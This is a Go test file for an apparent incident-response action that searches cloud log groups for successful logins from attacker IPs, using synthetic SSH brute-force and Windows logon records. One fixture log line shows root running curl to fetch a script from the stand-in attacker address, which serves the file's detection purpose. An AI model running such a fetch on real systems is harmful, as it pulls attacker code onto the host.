package logs_test

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/firebreak-sec/firebreak/internal/action"
	"github.com/firebreak-sec/firebreak/internal/action/actiontest"
	"github.com/firebreak-sec/firebreak/internal/action/logs"
	"github.com/firebreak-sec/firebreak/internal/sandbox"
	"github.com/firebreak-sec/firebreak/internal/sandbox/sandboxtest"
)

const (
	account  = "111111111111"
	region   = "us-east-1"
	instance = "i-0123456789abcdef0"
	attacker = "203.0.113.66"
)

// now is the sandbox's and the action's clock.
var now = time.Date(2026, 11, 23, 1, 0, 0, 0, time.UTC)

type fixture struct {
	t   *testing.T
	sb  *sandbox.Sandbox
	log *actiontest.Log
}

func newFixture(t *testing.T) *fixture {
	t.Helper()
	sb := sandboxtest.New(t, sandbox.Options{Seed: 8, Clock: func() time.Time { return now }})
	return &fixture{t: t, sb: sb, log: actiontest.NewLog(t, sb)}
}

func (f *fixture) call(params action.Values) action.Call {
	return actiontest.Caller{Clients: actiontest.Admin(f.t, f.sb), Target: action.Target{Account: account, Region: region}, Incident: "inc-1", Log: f.log}.Call("logins", params)
}

// write appends messages to a stream, the first at at, one a second.
func (f *fixture) write(group, stream string, at time.Time, msgs ...string) {
	f.t.Helper()
	var evs []sandbox.LogEvent
	for i, m := range msgs {
		evs = append(evs, sandbox.LogEvent{Time: at.Add(time.Duration(i) * time.Second), Message: m})
	}
	if err := f.sb.AppendLogEvents(account, region, group, stream, evs...); err != nil {
		f.t.Fatal(err)
	}
}

func sshd(at time.Time, pid int, text string) string {
	return fmt.Sprintf("%s ip-10-0-1-10 sshd[%d]: %s", at.Format(time.Stamp), pid, text)
}

// bruteForce is an auth log: n failures from the attacker, then what
// follows.
func bruteForce(start time.Time, n int, then ...string) []string {
	var out []string
	for i := range n {
		at := start.Add(time.Duration(i) * time.Second)
		user := []string{"root", "admin", "ubuntu", "test"}[i%4]
		if user == "root" {
			out = append(out, sshd(at, 800+i, fmt.Sprintf("Failed password for root from %s port %d ssh2", attacker, 40000+i)))
		} else {
			out = append(out, sshd(at, 800+i, fmt.Sprintf("Failed password for invalid user %s from %s port %d ssh2", user, attacker, 40000+i)))
		}
	}
	return append(out, then...)
}

func params(kv ...any) action.Values {
	out := action.Values{"max_events": action.IntValue(100000)} // the default
	for i := 0; i+1 < len(kv); i += 2 {
		switch v := kv[i+1].(type) {
		case string:
			out[kv[i].(string)] = action.StringValue(v)
		case []string:
			out[kv[i].(string)] = action.ListValue(v)
		case int:
			out[kv[i].(string)] = action.IntValue(int64(v))
		}
	}
	return out
}

func TestSuccessfulLoginsSSH(t *testing.T) {
	f := newFixture(t)
	group := "/ec2/" + instance + "/auth"
	start := now.Add(-2 * time.Hour)
	success := start.Add(60 * time.Second)
	f.write(group, instance, start, bruteForce(start, 60,
		sshd(success, 901, "Accepted password for root from "+attacker+" port 50444 ssh2"),
		sshd(success, 902, "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)"),
		sshd(success, 903, "Accepted publickey for ec2-user from 198.51.100.7 port 40000 ssh2: ED25519 SHA256:abc"),
		fmt.Sprintf("%s ip-10-0-1-10 sudo[990]: root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/curl http://%s/x.sh", success.Format(time.Stamp), attacker),
	)...)
	// A success from the attacker in another instance's stream.
	f.write(group, "i-0fedcba9876543210", start, sshd(start, 1, "Accepted password for admin from "+attacker+" port 1 ssh2"))

	a := logs.SuccessfulLogins{Now: func() time.Time { return now }}
	call := f.call(params("log_groups", []string{"/ec2/{instance_id}/auth", "/ec2/{instance_id}/secure"}, "ips", []string{attacker, "192.0.2.1"}, "instance_id", instance))
	mark := len(f.sb.Trail())
	planned, err := a.Check(context.Background(), call)
	if err != nil {
		t.Fatal(err)
	}
	if len(f.sb.Trail()) != mark {
		t.Errorf("Check made calls")
	}
	wantPlan := []action.PlannedCall{
		{Operation: "logs:FilterLogEvents", Resource: group, Detail: `filterPattern=?"203.0.113.66" ?"192.0.2.1" startTime=2026-11-22T01:00:00Z endTime=2026-11-23T01:00:00Z logStreamNamePrefix=` + instance + ", every page"},
		{Operation: "logs:FilterLogEvents", Resource: "/ec2/" + instance + "/secure", Detail: `filterPattern=?"203.0.113.66" ?"192.0.2.1" startTime=2026-11-22T01:00:00Z endTime=2026-11-23T01:00:00Z logStreamNamePrefix=` + instance + ", every page"},
	}
	if diff := cmp.Diff(planned, wantPlan); diff != "" {
		t.Errorf("Check (-got +want):\n%s", diff)
	}

	out, err := a.Do(context.Background(), call)
	if err != nil {
		t.Fatal(err)
	}
	want := action.Values{
		"login_succeeded": action.BoolValue(true),
		"logins":          action.ListValue([]string{"2026-11-22T23:01:00Z root 203.0.113.66 ssh-password " + group + "/" + instance}),
		"login_count":     action.IntValue(1),
		"users":           action.ListValue([]string{"root"}),
		"groups_searched": action.ListValue([]string{group}),
		"missing_groups":  action.ListValue([]string{"/ec2/" + instance + "/secure"}),
		"events_scanned":  action.IntValue(62), // 60 failures, the success, the sudo line
		"truncated":       action.BoolValue(false),
	}
	if diff := cmp.Diff(out.String(), want.String()); diff != "" {
		t.Errorf("outputs (-got +want):\n%s", diff)
	}
	// The search is in CloudTrail, with its pattern.
	var recorded []string
	for _, r := range f.sb.Trail()[mark:] {
		if r.EventName == "FilterLogEvents" {
			recorded = append(recorded, string(r.RequestParameters))
		}
	}
	if len(recorded) != 2 || !strings.Contains(recorded[0], `?\"203.0.113.66\"`) {
		t.Errorf("FilterLogEvents records = %q", recorded)
	}

	// A dry run reads too: the action changes nothing.
	dry := call
	dry.DryRun = true
	dryOut, err := a.Do(context.Background(), dry)
	if err != nil || dryOut.String() != want.String() {
		t.Errorf("dry run: %v, %v", err, dryOut)
	}

	// Without instance_id every stream is searched.
	out, err = a.Do(context.Background(), f.call(params("log_groups", []string{group}, "ips", []string{attacker})))
	if err != nil {
		t.Fatal(err)
	}
	if out.Int("login_count") != 2 || strings.Join(out.List("users"), ",") != "admin,root" {
		t.Errorf("all streams: %v", out)
	}
}

func TestSuccessfulLoginsFailuresOnly(t *testing.T) {
	f := newFixture(t)
	start := now.Add(-time.Hour)
	f.write("/var/log/secure", instance, start, bruteForce(start, 200,
		sshd(start.Add(300*time.Second), 5, "Accepted publickey for ec2-user from 198.51.100.7 port 40000 ssh2: RSA SHA256:abc"),
		sshd(start.Add(301*time.Second), 6, "Connection closed by authenticating user root "+attacker+" port 50000 [preauth]"),
	)...)
	out, err := logs.SuccessfulLogins{Now: func() time.Time { return now }}.Do(context.Background(), f.call(params("log_groups", []string{"/var/log/secure"}, "ips", []string{attacker})))
	if err != nil {
		t.Fatal(err)
	}
	if out.Bool("login_succeeded") || out.Int("login_count") != 0 || len(out.List("logins")) != 0 || out.Int("events_scanned") != 201 {
		t.Errorf("outputs = %v, want no login after 201 events", out)
	}
}

func TestSuccessfulLoginsWindows(t *testing.T) {
	f := newFixture(t)
	read := func(name string) string {
		b, err := os.ReadFile(filepath.Join("testdata", name))
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	start := now.Add(-30 * time.Minute)
	var msgs []string
	for range 30 {
		msgs = append(msgs, read("windows-4625-failed.xml"), read("windows-4624-anonymous.xml"))
	}
	msgs = append(msgs, read("windows-4624-rdp.xml"))
	f.write("WinEventLogSecurity", instance, start, msgs...)
	f.write("WinEventLogSecurityText", instance, start, read("windows-4625-failed.txt"), read("windows-4624-forged-workstation.txt"), read("windows-4624-rdp.txt"))

	out, err := logs.SuccessfulLogins{Now: func() time.Time { return now }}.Do(context.Background(),
		f.call(params("log_groups", []string{"WinEventLogSecurity", "WinEventLogSecurityText"}, "ips", []string{attacker}, "instance_id", instance)))
	if err != nil {
		t.Fatal(err)
	}
	// Sorted by time: the text group's login comes first.
	want := []string{
		"2026-11-23T00:30:02Z EC2AMAZ-7Q1K2B3\\Administrator 203.0.113.66 rdp WinEventLogSecurityText/" + instance,
		"2026-11-23T00:31:00Z EC2AMAZ-7Q1K2B3\\Administrator 203.0.113.66 rdp WinEventLogSecurity/" + instance,
	}
	if diff := cmp.Diff(out.List("logins"), want); diff != "" {
		t.Errorf("logins (-got +want):\n%s", diff)
	}
	if out.Int("events_scanned") != 61+3 {
		t.Errorf("events_scanned = %d, want 64", out.Int("events_scanned"))
	}
}

func TestSuccessfulLoginsPagingAndWindow(t *testing.T) {
	f := newFixture(t)
	group := "/ec2/auth"
	start := now.Add(-20 * time.Hour)
	// 25,000 failures (three pages of 10,000), then the success.
	msgs := bruteForce(start, 25000, sshd(start, 1, "Accepted keyboard-interactive/pam for root from "+attacker+" port 1 ssh2"))
	f.write(group, instance, start, msgs...)
	a := logs.SuccessfulLogins{Now: func() time.Time { return now }}
	out, err := a.Do(context.Background(), f.call(params("log_groups", []string{group}, "ips", []string{attacker})))
	if err != nil {
		t.Fatal(err)
	}
	if !out.Bool("login_succeeded") || out.Int("events_scanned") != 25001 || out.Bool("truncated") {
		t.Errorf("after 25,001 events: %v", out)
	}
	out, err = a.Do(context.Background(), f.call(params("log_groups", []string{"arn:aws:logs:us-east-1:111111111111:log-group:" + group + ":*"}, "ips", []string{attacker}, "max_events", 1000)))
	if err != nil {
		t.Fatal(err)
	}
	if out.Bool("login_succeeded") || out.Int("events_scanned") != 1000 || !out.Bool("truncated") {
		t.Errorf("capped at 1,000: %v", out)
	}

	// The window is inclusive at both ends, to the millisecond.
	g2 := "/ec2/window"
	since := time.Date(2026, 11, 22, 12, 0, 0, 0, time.UTC)
	until := since.Add(time.Hour)
	for _, ev := range []struct {
		at   time.Time
		user string
	}{{since.Add(-time.Millisecond), "before"}, {since, "first"}, {until, "last"}, {until.Add(time.Millisecond), "after"}} {
		if err := f.sb.AppendLogEvents(account, region, g2, instance, sandbox.LogEvent{Time: ev.at, Message: sshd(ev.at, 1, "Accepted password for "+ev.user+" from "+attacker+" port 1 ssh2")}); err != nil {
			t.Fatal(err)
		}
	}
	out, err = a.Do(context.Background(), f.call(params("log_groups", []string{g2}, "ips", []string{attacker}, "since", since.Format(time.RFC3339), "until", until.Format(time.RFC3339))))
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(out.List("users"), ","); got != "first,last" {
		t.Errorf("users in [since, until] = %q, want first,last", got)
	}
	// until alone, with a fraction: since is 24 hours before it.
	out, err = a.Do(context.Background(), f.call(params("log_groups", []string{g2}, "ips", []string{attacker}, "until", since.Add(-time.Millisecond).Format(time.RFC3339Nano))))
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(out.List("users"), ","); got != "before" {
		t.Errorf("users up to since-1ms = %q, want before", got)
	}
}

func TestSuccessfulLoginsIPv6(t *testing.T) {
	f := newFixture(t)
	f.write("/auth", instance, now.Add(-time.Minute),
		sshd(now, 1, "Accepted publickey for ec2-user from 2001:db8::66 port 50000 ssh2: ED25519 SHA256:abc"),
		sshd(now, 2, "Accepted password for root from 2001:db8::67 port 50000 ssh2"),
	)
	out, err := logs.SuccessfulLogins{Now: func() time.Time { return now }}.Do(context.Background(), f.call(params("log_groups", []string{"/auth"}, "ips", []string{"2001:0db8:0:0:0:0:0:66"})))
	if err != nil {
		t.Fatal(err)
	}
	if got := out.List("logins"); len(got) != 1 || !strings.Contains(got[0], "ec2-user 2001:db8::66 ssh-publickey") {
		t.Errorf("logins = %q", got)
	}
}

func TestSuccessfulLoginsErrors(t *testing.T) {
	f := newFixture(t)
	f.write("/exists", instance, now.Add(-time.Minute), "x")
	a := logs.SuccessfulLogins{Now: func() time.Time { return now }}
	for _, tc := range []struct {
		name   string
		params action.Values
		want   string
	}{
		{"all groups missing", params("log_groups", []string{"/nope", "/nope2"}, "ips", []string{attacker}), "none of the log groups exists: /nope, /nope2"},
		{"no groups", params("ips", []string{attacker}), "parameter log_groups: required"},
		{"no ips", params("log_groups", []string{"/exists"}), "parameter ips: required"},
		{"bad ip", params("log_groups", []string{"/exists"}, "ips", []string{attacker, "203.0.113.300"}), `parameter ips[1]: "203.0.113.300" is not an IP address`},
		{"cidr is not an ip", params("log_groups", []string{"/exists"}, "ips", []string{"203.0.113.0/24"}), `parameter ips[0]`},
		{"placeholder without instance", params("log_groups", []string{"/exists", "/ec2/{instance_id}/auth"}, "ips", []string{attacker}), "parameter log_groups[1]: {instance_id} needs the instance_id parameter"},
		{"unknown placeholder", params("log_groups", []string{"/ec2/{host}/auth"}, "ips", []string{attacker}, "instance_id", instance), "parameter log_groups[0]: unknown placeholder {host}"},
		{"bad group name", params("log_groups", []string{"my group"}, "ips", []string{attacker}), `parameter log_groups[0]: "my group" is not a log group name`},
		{"bad since", params("log_groups", []string{"/exists"}, "ips", []string{attacker}, "since", "yesterday"), `parameter since: "yesterday" is not an RFC 3339 time`},
		{"bad until", params("log_groups", []string{"/exists"}, "ips", []string{attacker}, "until", "2026-11-23"), `parameter until: "2026-11-23" is not an RFC 3339 time`},
		{"since after until", params("log_groups", []string{"/exists"}, "ips", []string{attacker}, "since", "2026-11-23T00:00:00Z", "until", "2026-11-22T00:00:00Z"), "parameter since: 2026-11-23T00:00:00Z is not before until"},
		{"negative max", params("log_groups", []string{"/exists"}, "ips", []string{attacker}, "max_events", -1), "parameter max_events"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := a.Do(context.Background(), f.call(tc.params))
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("Do error = %v, want it to contain %q", err, tc.want)
			}
			if !strings.HasPrefix(err.Error(), "aws.logs.successful_logins: ") {
				t.Errorf("error %q does not name the action", err)
			}
			if c := action.Classify(err); c != action.Permanent {
				t.Errorf("class = %v, want permanent", c)
			}
		})
	}
	// No clients is permanent too.
	call := f.call(params("log_groups", []string{"/exists"}, "ips", []string{attacker}))
	call.Clients = nil
	if _, err := a.Do(context.Background(), call); action.Classify(err) != action.Permanent {
		t.Errorf("without clients: %v", err)
	}
	if err := action.Validate(a); err != nil {
		t.Errorf("Validate: %v", err)
	}
}
